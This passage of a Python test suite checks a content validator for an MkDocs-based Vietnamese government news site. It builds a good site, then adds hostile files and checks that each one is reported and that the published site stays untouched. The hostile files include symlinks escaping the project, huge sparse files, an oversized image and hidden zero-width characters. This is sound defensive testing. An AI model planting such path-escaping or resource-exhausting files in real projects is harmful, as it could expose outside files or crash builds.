        os.symlink(raw.removeprefix(b"symlink:").decode().replace(OUTSIDE, str(outside)), target)
    elif raw.startswith(b"sparse:"):
        with target.open("wb") as stream:
            stream.write(b"%PDF-1.4\n")
            stream.truncate(int(raw.removeprefix(b"sparse:")) * 1024 * 1024)
    elif raw.startswith(b"png:"):
        width, height = raw.removeprefix(b"png:").split(b"x")
        target.write_bytes(png(int(width), int(height)))
    else:
        target.write_bytes(raw.replace(OUTSIDE.encode(), str(outside).encode()))


def write_bad_content(project: Project, outside: Path) -> None:
    """Add every bad file of the corpus to a project."""
    for index, (name, lines, changes, *_) in enumerate(ANNOUNCEMENTS):
        write_file(project.posts / "2021" / f"{name}.md", announcement_text(index, lines, changes), outside)
    for relpath, content in ATTACHED_FILES.items():
        write_file(project.posts / "2021" / relpath, content, outside)
    for relpath, content in {**DOCS_LINKS, **{p: c for p, c, *_ in DOCS_FILES if c is not None}}.items():
        write_file(project.root / "docs" / relpath, content, outside)
    for kit_id, files in KIT_FILES.items():
        kit = project.root / "assets" / "campaigns" / kit_id
        if isinstance(files["campaign.yml"], bytes):  # the kit folder itself is a symlink
            write_file(kit, files["campaign.yml"], outside)
            continue
        for name, content in files.items():
            write_file(kit / name, content, outside)


def good_project(root: Path) -> Project:
    """The good site: valid content that brushes every new rule without breaking one."""
    head = ["---", "date: 2021-03-01", "type: ke-hoach"]
    ke_hoach = [
        *head, "title: Kế hoạch chuyển đổi số năm\u00a02021",  # a no-break space inside a text value is allowed
        "number: 10/KH-STC", *SIGNER, "attachments:", "  - file: files/phu-luc.pdf", "    title: Phụ lục",
        "  - file: files/ban-sao.pdf", "    title: Bản sao (liên kết trong docs/)", "  - file: files/so-lieu.csv",
        "  - file: files/anh.jpg", "  - file: files/anh.png", "  - file: files/mau.docx", "tags: [chuyển đổi số]",
        "---", "Nội dung kế hoạch.", "",
    ]  # fmt: skip
    draft = [*head, "title: Dự thảo kế hoạch", "number: /KH-STC", "draft: true", "---", "Chưa cấp số.", ""]
    cong_van = ["---", "title: Hưởng ứng chiến dịch thử", "date: 2021-11-16", "type: cong-van", "number: 1/STC-VP",
                "campaign: tot-2021", *SIGNER, "---", "Nội dung.", ""]  # fmt: skip
    posts: dict[str, str | bytes] = {
        "2021/ke-hoach-chuyen-doi-so.md": "\n".join(ke_hoach),
        "2021/du-thao-ke-hoach.md": "\n".join(draft),  # a draft may carry the unissued number
        "2021/huong-ung-chien-dich.md": "\n".join(cong_van),
        "2021/files/phu-luc.pdf": PDF,
        "2021/files/so-lieu.csv": "\ufeffChỉ tiêu,Dự toán\nThu ngân sách,4250\n".encode(),
        "2021/files/anh.jpg": small_image("JPEG"),
        "2021/files/anh.png": small_image("PNG"),
        "2021/files/mau.docx": b"PK\x03\x04" + b"\x00" * 60,
        "2021/.DS_Store": b"\x00\x00\x00\x01Bud1",  # a dot file: MkDocs leaves it out, so does the check
    }
    project = create_project(root, posts, campaigns={"tot-2021": kit_yaml(logo="logo.svg")})
    kit = project.root / "assets" / "campaigns" / "tot-2021"
    for name in ("logo.svg", "logo.png"):  # an inert SVG logo, with the PNG the renderer draws
        shutil.copy2(DEMO_KIT / name, kit / name)
    (kit / "phu-luc.pdf").write_bytes(PDF)
    (project.root / "assets" / "banners" / "formats.yml").write_text(OG_ONLY, encoding="utf-8")  # fewer graphics
    (project.root / "docs" / "robots.txt").write_text("User-agent: *\nAllow: /\n", encoding="utf-8")
    os.symlink("phu-luc.pdf", project.posts / "2021" / "files" / "ban-sao.pdf")  # a symlink inside docs/ is fine
    return project


# --------------------------------------------------------------------------- builds


def snapshot(folder: Path) -> dict[str, str]:
    """Every file and folder under `folder`: files by SHA-256 of their bytes, folders as '<dir>'."""
    return {
        path.relative_to(folder).as_posix(): "<dir>" if path.is_dir() else hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
    }


def reported_lines(output: str) -> list[re.Match]:
    return [match for match in map(REPORT_LINE.match, output.splitlines()) if match]


@dataclass(frozen=True)
class HostileBuild:
    cases: dict[str, Case]  # by id, with the outside folder's real path
    good: BuildResult
    bad: BuildResult
    before: dict[str, str]
    after: dict[str, str]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> HostileBuild:
    """The good site built, then every bad file added and built again."""
    root = tmp_path_factory.mktemp("hostile")
    project = good_project(root)
    good = build_capturing(project.config_file, project.site_dir)
    assert good.code == 0, good.output
    before = snapshot(project.site_dir)
    outside = make_outside(root / "outside")
    write_bad_content(project, outside)
    bad = build_capturing(project.config_file, project.site_dir)
    cases = {case.id: case.resolved(outside) for case in CASES}
    return HostileBuild(cases, good, bad, before, snapshot(project.site_dir))


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 40
    assert len({case.id for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case_id", [case.id for case in CASES])
def test_each_bad_input_is_reported_and_the_good_site_stays(hostile: HostileBuild, case_id: str):
    case = hostile.cases[case_id]
    assert hostile.bad.code != 0
    reported = reported_lines(hostile.bad.output)
    about_file = [m.group() for m in reported if m["path"] == case.path]
    assert any(case.matches(m) for m in reported), f"no report line for {case}; about the file:\n" + "\n".join(
        about_file
    )
    assert hostile.after == hostile.before, "the failed build changed the last good site"


def test_one_report_holds_every_error_and_nothing_else(hostile: HostileBuild):
    output = hostile.bad.output
    assert output.count("Nội dung có") == 1 and "Traceback" not in output, output[-3000:]
    reported = reported_lines(output)
    strays = [m.group() for m in reported if not any(case.matches(m) for case in hostile.cases.values())]
    assert strays == [], "errors no case expects:\n" + "\n".join(strays)
    assert len(reported) == len(hostile.cases)
    assert f"Nội dung có {len(hostile.cases)} lỗi, chưa xây dựng trang" in output


def test_messages_have_the_documented_form(hostile: HostileBuild):
    lines = [m.group() for m in reported_lines(hostile.bad.output)]
    assert (
        f"  - {POSTS}2021/so-co-ky-tu-an.md:5: trường 'number': gặp ký tự ẩn U+200B ZERO WIDTH SPACE sau "
        f"'number: 205'; cần {REMOVE}"
    ) in lines
    line = line_of(str(KIT_FILES["logo-20000"]["campaign.yml"]), "logo:")
    assert (
        f"  - {KITS}logo-20000/campaign.yml:{line}: trường 'logo': gặp 'logo.png': ảnh 20000×20000 = 400.000.000 "
        f"điểm ảnh; cần {PIXEL_LIMIT}; thu nhỏ ảnh trước khi đăng"
    ) in lines


def test_the_good_site_holds_what_the_rules_allow(hostile: HostileBuild):
    files = set(hostile.before)
    for name in ("phu-luc.pdf", "ban-sao.pdf", "so-lieu.csv", "anh.jpg", "anh.png", "mau.docx"):
        assert f"tin-tuc/posts/2021/files/{name}" in files, name
    assert (hostile.good.site / "tin-tuc/posts/2021/files/ban-sao.pdf").read_bytes() == PDF
    assert {"robots.txt", "chien-dich/tot-2021/tep/logo.svg", "chien-dich/tot-2021/tep/phu-luc.pdf"} <= files
    assert "tin-tuc/2021/du-thao-ke-hoach/index.html" not in files, "a draft with an unissued number builds unpublished"
    assert "Kế hoạch chuyển đổi số năm\u00a02021" in (
        hostile.good.site / "tin-tuc/2021/ke-hoach-chuyen-doi-so/index.html"
    ).read_text(encoding="utf-8")
    assert not any(name.endswith(".DS_Store") for name in files)


# --------------------------------------------------------------------------- mkdocs.yml

AGENCY_BLOCK = re.compile(r"(?m)^  agency:\n(?:    .*\n)+")
BAD_AGENCIES = {
    "keys": (
        "  agency:\n    short_code: [STC]\n    place: ''\n    phone: {so: 1}\n    website: https://stc.example.vn\n",
        [
            ("extra.agency.name", "không có giá trị", "tên cơ quan"),
            ("extra.agency.short_code", "một danh sách ['STC']", "chữ viết tắt dùng trong số ký hiệu"),
            ("extra.agency.place", "chuỗi rỗng", "địa danh"),
            ("extra.agency.phone", "một bảng khóa ['so']", "một dòng chữ"),
            ("extra.agency.website", "một khóa không có trong mô hình", "một trong name, short_code, place"),
        ],
    ),
    "not-a-mapping": (
        "  agency: Sở Tài chính tỉnh Sóc Trăng\n",
        [("extra.agency", "'Sở Tài chính tỉnh Sóc Trăng'", "một bảng khóa name, short_code, place")],
    ),
}


@pytest.fixture(scope="module")
def agency_builds(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, tuple[BuildResult, bool]]]:
    """A good site, then one build per bad extra.agency: each result, and whether the good site
    was left as it was."""
    good_text = "---\ntitle: Một\ndate: 2021-01-05\ntype: thong-bao\nnumber: 1/TB-STC\n---\nNội dung.\n"
    project = create_project(tmp_path_factory.mktemp("agency"), {"2021/mot.md": good_text})
    good = build_capturing(project.config_file, project.site_dir)
    assert good.code == 0, good.output
    before = snapshot(project.site_dir)
    config = project.config_file.read_text(encoding="utf-8")
    assert AGENCY_BLOCK.search(config), "mkdocs.yml has no extra.agency block to replace"
    results = {}
    for name, (block, _) in BAD_AGENCIES.items():
        project.config_file.write_text(AGENCY_BLOCK.sub(lambda _match, block=block: block, config), encoding="utf-8")
        result = build_capturing(project.config_file, project.site_dir)
        results[name] = (result, snapshot(project.site_dir) == before)
    yield results


@pytest.mark.parametrize(
    ("variant", "field", "found", "expected"),
    [(name, *error) for name, (_, errors) in BAD_AGENCIES.items() for error in errors],
)
def test_bad_agency_in_mkdocs_yml(agency_builds, variant: str, field: str, found: str, expected: str):
    result, untouched = agency_builds[variant]
    assert result.code != 0
    lines = [m for m in reported_lines(result.output) if m["path"] == "mkdocs.yml" and m["field"] == field]
    assert any(found in m["found"] and expected in m["expected"] for m in lines), result.output[-3000:]
    assert untouched, "the failed build changed the last good site"
